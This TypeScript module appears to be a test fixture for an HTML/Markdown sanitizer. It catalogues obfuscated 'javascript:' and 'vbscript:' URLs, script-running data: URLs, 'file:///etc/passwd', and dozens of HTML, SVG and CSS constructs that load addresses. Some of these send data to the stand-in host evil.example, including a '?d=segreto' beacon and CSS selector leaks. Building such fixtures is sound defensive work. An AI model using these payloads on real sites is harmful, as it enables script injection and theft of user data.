/** Addresses that must never be followed, and every place of a page that would follow one. */

/** What would be run. */
export const run = 'alert(1)'
/** Whom nobody may ask or tell anything. */
export const stranger = 'https://evil.example'

const spellings = (word: string): readonly string[] => {
  const letters = [...word]
  const code = (letter: string) => letter.codePointAt(0) ?? 0
  return [
    word,
    word.toUpperCase(),
    letters.map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join(''),
    letters.map(letter => `&#${code(letter)};`).join(''),
    letters.map(letter => `&#${code(letter)}`).join(''),
    letters.map(letter => `&#x${code(letter).toString(16)};`).join(''),
    letters.map(letter => `&#X000${code(letter).toString(16)};`).join(''),
    letters.map(letter => `&#0000${code(letter)};`).join(''),
    letters.map(letter => `%${code(letter).toString(16)}`).join(''),
    letters.map(letter => `\\u00${code(letter).toString(16)}`).join(''),
    letters.map(letter => String.fromCodePoint(code(letter) + 0xfee0)).join(''),
    letters.join('&Tab;'),
    letters.join('&NewLine;'),
    letters.join('\t'),
    letters.join('\n'),
    letters.join('\u00ad'),
    letters.join('\u200b'),
    letters.join('\u0000'),
    `&#1;${word}`,
    `\u0001${word}`,
    `\u001f ${word}`,
    `&nbsp;${word}`,
    `\u00a0${word}`,
    `\ufeff${word}`,
    `&#8232;${word}`,
    `view-source:${word}`,
    `feed:${word}`,
    `x:${word}`,
    `//${word}`,
  ]
}

/** Addresses that run a script, or leave the browser. */
export const schemes: readonly string[] = [
  ...spellings('javascript').map(word => `${word}:${run}`),
  ...['&colon;', '&#58;', '&#x3a;', '&#58', '%3a', '：', '\\:', '&amp;colon;'].map(colon => `javascript${colon}${run}`),
  ...spellings('vbscript')
    .slice(0, 4)
    .map(word => `${word}:msgbox(1)`),
  `data:text/html,<script>${run}</script>`,
  `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"/>`,
  `DATA:,${run}`,
  `blob:https://app.example/${run}`,
  `filesystem:https://app.example/${run}`,
  'file:///etc/passwd',
  'about:blank#',
  'intent://x#Intent;scheme=http;end',
  'ms-word:ofe|u|https://evil.example/x.docm',
  'search-ms:query=x&crumb=location:\\\\evil.example\\x',
]

/** Every place of a page that takes an address and may act on it. */
export const addressPlaces: readonly ((address: string) => string)[] = [
  address => `<a href="${address}">Vai</a>`,
  address => `[Vai](${address})`,
  address => `[Vai](<${address}>)`,
  address => `[Vai][r]\n\n[r]: ${address}`,
  address => `<${address}>`,
]
/** Places where an address acts without a click, or with one that looks harmless. */
export const activePlaces: readonly ((address: string) => string)[] = [
  address => `<iframe src="${address}"></iframe>`,
  address => `<object data="${address}"></object>`,
  address => `<embed src="${address}">`,
  address => `<form action="${address}"><button>Conferma</button></form>`,
  address => `<form><button formaction="${address}">Conferma</button></form>`,
  address => `<input type=image src=x formaction="${address}">`,
  address => `<svg><a href="${address}"><text y=20>x</text></a></svg>`,
  address => `<svg><a xlink:href="${address}"><text y=20>x</text></a></svg>`,
  address => `<svg><a><animate attributeName=href values="${address};${address}" /><text y=20>x</text></a></svg>`,
  address => `<svg><a><set attributeName=xlink:href to="${address}" /><text y=20>x</text></a></svg>`,
  address => `<svg><use href="${address}" /></svg>`,
  address => `<svg><script href="${address}"></script></svg>`,
  address => `<math href="${address}"><mi>x</mi></math>`,
  address => `<math><mi xlink:href="${address}">x</mi></math>`,
  address => `<area href="${address}">`,
  address => `<map name=m><area shape=default href="${address}"></map><img usemap="#m">`,
  address => `<base href="${address}">`,
  address => `<meta http-equiv=refresh content="0;url=${address}">`,
  address => `<meta http-equiv=refresh content='0; url="${address}"'>`,
  address => `<link rel=import href="${address}">`,
  address => `<link rel=manifest href="${address}">`,
  address => `<frameset><frame src="${address}"></frameset>`,
  address => `<isindex action="${address}" type=submit>`,
  address => `<video src="${address}"></video>`,
  address => `<a href=x xml:base="${address}">x</a>`,
]

/** What fetches by itself once it is in a page. */
export const fetching: readonly ((address: string) => string)[] = [
  address => `![x](${address})`,
  address => `![x](<${address}>)`,
  address => `![x][r]\n\n[r]: ${address}`,
  address => `[![x](${address})](https://example.it)`,
  address => `<img src="${address}">`,
  address => `<img srcset="${address} 1x, ${address} 2x">`,
  address => `<img src=data:, srcset="${address} 100w" sizes="100vw">`,
  address => `<img lowsrc="${address}" dynsrc="${address}">`,
  address => `<picture><source srcset="${address}"><img></picture>`,
  address => `<picture><source media="(min-width:1px)" srcset=",${address}"><img></picture>`,
  address => `<input type=image src="${address}">`,
  address => `<video poster="${address}"></video>`,
  address => `<video><source src="${address}"></video>`,
  address => `<audio src="${address}" autoplay></audio>`,
  address => `<video><track default src="${address}"></video>`,
  address => `<body background="${address}">`,
  address => `<table background="${address}"><tr><td background="${address}">x</table>`,
  address => `<link rel=stylesheet href="${address}">`,
  address => `<link rel=prefetch href="${address}">`,
  address => `<link rel=preload as=image href="${address}">`,
  address => `<link rel=modulepreload href="${address}">`,
  address => `<link rel=icon href="${address}">`,
  address => `<link rel=prerender href="${address}">`,
  address => `<script src="${address}"></script>`,
  address => `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["${address}"]}]}</script>`,
  address => `<svg><image href="${address}" /></svg>`,
  address => `<svg><image xlink:href="${address}" /></svg>`,
  address => `<svg><feImage href="${address}" /></svg>`,
  address =>
    `<svg><filter id=f><feImage xlink:href="${address}" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
  address => `<svg><rect fill="url(${address}#a)" width=9 height=9 /></svg>`,
  address => `<svg><use href="${address}#a" /></svg>`,
  address => `<svg><mask id=m /><rect mask="url(${address}#m)" width=9 height=9 /></svg>`,
  address => `<svg><style>@import '${address}';</style></svg>`,
  address => `<style>@import url(${address});</style>`,
  address => `<style>*{background:url(${address})}</style>`,
  address => `<style>@font-face{font-family:f;src:url(${address})}*{font-family:f}</style>`,
  address => `<style>input[value^=a]{background:url(${address})}</style>`,
  address => `<style>a{cursor:url(${address}),auto}li{list-style:url(${address})}</style>`,
  address => `<p style="background:url(${address})">x</p>`,
  address => `<p style="background:\\75\\72\\6c(${address})">x</p>`,
  address => `<p style="background:image-set('${address}' 1x)">x</p>`,
  address => `<p style="border-image:url(${address})">x</p>`,
  address => `<p style="--x:url(${address});background:var(--x)">x</p>`,
  address => `<iframe srcdoc="<img src='${address}'>"></iframe>`,
  address => `<object data="${address}"></object>`,
  address => `<embed src="${address}">`,
  address => `<applet archive="${address}"></applet>`,
  address => `<html manifest="${address}">`,
  address => `<a href="https://example.it" ping="${address}">x</a>`,
  address => `<img src=data:, longdesc="${address}" attributionsrc="${address}">`,
  address => `<bgsound src="${address}">`,
  address => `<template shadowrootmode=open><img src="${address}"></template>`,
  address => `<portal src="${address}"></portal>`,
  address => `<fencedframe config="${address}"></fencedframe>`,
  address => `<meta http-equiv=refresh content="0;${address}">`,
]

/** Addresses of a stranger, as they may be spelled. */
export const strangers: readonly string[] = [
  `${stranger}/p.png?d=segreto`,
  '//evil.example/p.png',
  'HTTPS://EVIL.EXAMPLE/p.png',
  'https:/\\evil.example/p.png',
]
